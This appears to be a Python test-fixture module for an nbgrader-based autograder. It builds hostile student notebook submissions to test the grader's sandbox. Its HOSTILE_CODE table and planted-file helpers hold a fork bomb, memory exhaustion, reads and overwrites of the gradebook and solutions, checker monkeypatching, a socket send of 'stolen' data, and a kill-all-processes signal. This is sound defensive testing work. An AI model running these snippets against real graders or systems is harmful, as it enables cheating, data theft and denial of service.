"""A scratch course for the ``course-grade`` tests: notebook 01 only, real
gradebook, solved submissions, and a catalogue of hostile ones.

Each hostile submission is the solved notebook with one change: code put at
the top of the first answer cell (``HOSTILE_CODE``), or a test cell edited,
deleted or retyped, or the file broken (``HOSTILE_EDITS``), or something that
is not a regular file put beside it in the submitted folder (``HOSTILE_FILES``,
by :func:`plant`: links to the gradebook or the source, a hard link, a FIFO, a
path too long to copy; a zip cannot carry these, a folder from an nbgrader
exchange or a shared drive can). ``{course}`` and ``{port}`` in the code are
filled in with the course root and the port of a listener the test runs on the
host.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat

import nbrun
from course_lib import nbmeta
from course_lib.instructor.release import solution_filled

NOTEBOOK = "01_hand_gradients.ipynb"
CLEAN = ("alice", "bob")

HOSTILE_CODE = {
    "infinite_loop": "while True:\n    pass",
    "ignores_interrupt": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    "catches_interrupt": "while True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n"
                         "        pass",
    "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    "huge_allocation": "import numpy as np\nhog = np.ones(50 * 10**9 // 8)\nhog[::4096] = 2.0",
    "reads_source": "print(open('{course}/source_notebooks/ps1/01_hand_gradients.ipynb').read())",
    "reads_gradebook": "print(open('{course}/gradebook.db', 'rb').read()[:2000])",
    "writes_gradebook": "import sqlite3\ndb = sqlite3.connect('{course}/gradebook.db')\n"
                        "db.execute('UPDATE grade SET auto_score = 0')\ndb.commit()",
    "edits_other_student": "open('../../alice/ps1/01_hand_gradients.ipynb', 'w').write('{{}}')",
    "network": "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')",
    "shadows_check": "def check_c(*args, **kwargs):\n    return None",
    "patches_course_lib": "import course_lib.checks.hand_gradients as hg\n"
                          "hg.check_c = lambda *args, **kwargs: None",
    "gigabytes_of_output": "while True:\n    print('x' * 10**6)",
    "os_exit": "import os\nos._exit(0)",
    # prints the source of every cell it runs after this one, hidden tests included, into their outputs
    "echoes_cells": "get_ipython().events.register('post_run_cell', lambda result: print(result.info.raw_cell))",
    # a signal to every process of the sandbox user (only ever sent inside the sandbox: unconfined, as the
    # grader's user or root, it would reach the grader itself), and to the kernel itself
    "kills_everyone": "import os, signal\nif os.getuid() >= 60000:\n    os.kill(-1, signal.SIGKILL)",
    "kills_itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "raises_sigkill": "import signal\nsignal.raise_signal(signal.SIGKILL)",
    "exits_3": "import os\nos._exit(3)",
}
HOSTILE_EDITS = ("edits_test_cell", "deletes_test_cell", "retypes_test_cell", "corrupt_json")

# kind -> name planted in the submitted folder, beside the notebook; the notebook tries to read it
READS_PLANTED = ("try:\n    print(open({name!r}, 'rb').read()[:300])\nexcept OSError as err:\n"
                 "    print('cannot read it:', type(err).__name__)")
HOSTILE_FILES = {
    "links_gradebook": "gradebook.db",        # -> ../../../gradebook.db
    "links_source": "notes.txt",              # -> the source notebook (solutions, hidden tests)
    "links_notebook": NOTEBOOK,               # the notebook itself -> the source notebook
    "hard_link": "data.txt",                  # a hard link to the source notebook
    "fifo": "pipe",                           # a named pipe: a copy would block or fail
    "long_path": "deep.txt",                  # 20 folders of 250-byte names: beyond PATH_MAX
}
HOSTILE = (*HOSTILE_CODE, *HOSTILE_EDITS, *HOSTILE_FILES)


def make_course(root: Path, notebook: str = NOTEBOOK) -> Path:
    """``root`` as a course of one notebook (01 unless told): config, source, gradebook, release."""
    from course_lib.instructor.grading import course

    root.mkdir(parents=True, exist_ok=True)
    shutil.copy(nbrun.ROOT / "nbgrader_config.py", root)
    (root / "source_notebooks" / "ps1").mkdir(parents=True, exist_ok=True)
    shutil.copy(nbrun.SOURCE_DIR / notebook, root / "source_notebooks" / "ps1" / notebook)
    import logging

    course.ensure_assignment(root, "ps1", course.db_url(root), logging.getLogger("test"))
    return root


def solved(root: Path) -> nbformat.NotebookNode:
    return solution_filled(root / "release" / "ps1" / NOTEBOOK, root / "source_notebooks" / "ps1" / NOTEBOOK)


def test_ids(nb: nbformat.NotebookNode) -> list[str]:
    return [nbmeta.grade_id(c) for c in nb.cells if nbmeta.is_autograded_test(c)]


def hostile(root: Path, kind: str, port: int = 9) -> nbformat.NotebookNode | str:
    """The notebook (or, for corrupt_json, the file text) of a hostile student."""
    nb = solved(root)
    if kind in HOSTILE_CODE or kind in HOSTILE_FILES:
        code = HOSTILE_CODE[kind].format(course=root, port=port) if kind in HOSTILE_CODE else \
            READS_PLANTED.format(name=HOSTILE_FILES[kind])
        first = next(c for c in nb.cells if nbmeta.is_solution(c) and c.cell_type == "code")
        first.source = code + "\n" + first.source
    elif kind == "edits_test_cell":
        cell = next(c for c in nb.cells if nbmeta.is_autograded_test(c))
        cell.source = "pass"
    elif kind == "deletes_test_cell":
        gone = test_ids(nb)[0]
        nb.cells = [c for c in nb.cells if nbmeta.grade_id(c) != gone]
    elif kind == "retypes_test_cell":
        cell = next(c for c in nb.cells if nbmeta.is_autograded_test(c))
        cell.metadata["nbgrader"]["grade"] = False
        cell.metadata["nbgrader"]["points"] = 0
    elif kind == "corrupt_json":
        return '{"cells": [ this is not JSON'
    else:
        raise ValueError(kind)
    return nb


def submit(root: Path, student: str, nb: nbformat.NotebookNode | str, folder: Path | None = None,
           notebook: str = NOTEBOOK) -> Path:
    dest = (folder or root / "submitted") / student / "ps1"
    dest.mkdir(parents=True, exist_ok=True)
    if isinstance(nb, str):
        (dest / notebook).write_text(nb)
    else:
        nbformat.write(nb, str(dest / notebook))
    return dest


def plant(root: Path, kind: str, folder: Path) -> None:
    """Put ``kind``'s entry of :data:`HOSTILE_FILES` into the submitted ``folder``."""
    if kind not in HOSTILE_FILES:
        return
    source = root / "source_notebooks" / "ps1" / NOTEBOOK
    target = folder / HOSTILE_FILES[kind]
    if kind == "links_gradebook":
        target.symlink_to(os.path.relpath(root / "gradebook.db", folder))
    elif kind in ("links_source", "links_notebook"):
        target.unlink(missing_ok=True)
        target.symlink_to(os.path.relpath(source, folder))
    elif kind == "hard_link":
        os.link(source, target)
    elif kind == "fifo":
        os.mkfifo(target)
    elif kind == "long_path":
        fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for level in range(20):  # 20 x 251 bytes: no path-based call can reach the bottom
                name = f"{level:02d}" + "d" * 248
                os.mkdir(name, dir_fd=fd)
                deeper = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = deeper
            out = os.open(target.name, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
            os.write(out, b"deep")
            os.close(out)
        finally:
            os.close(fd)


def course_grade(root: Path, *args: str, timeout: int = 1200) -> subprocess.CompletedProcess:
    """``course-grade`` as an instructor runs it, from the course root."""
    return subprocess.run([sys.executable, "-m", "course_lib.instructor.grading.cli", *args, "--quiet"],
                          cwd=root, capture_output=True, text=True, timeout=timeout)


def results(root: Path) -> dict[str, dict]:
    """The journal: {student: StudentResult as a dict}."""
    folder = root / "grading" / "ps1" / "results"
    return {p.stem: json.loads(p.read_text()) for p in sorted(folder.glob("*.json"))}


def scores(result: dict) -> dict[str, float]:
    return {f"{p['notebook']}/{p['grade_id']}": p["score"] for p in result["problems"]}


def gradebook_scores(root: Path, student: str, db_url: str | None = None) -> dict[str, float | None]:
    from nbgrader.api import Gradebook

    with Gradebook(db_url or f"sqlite:///{root / 'gradebook.db'}", "backprop-ps1") as gb:
        sub = gb.find_submission("ps1", student)
        return {f"{nb.name}/{g.name}": g.auto_score for nb in sub.notebooks for g in nb.grades}
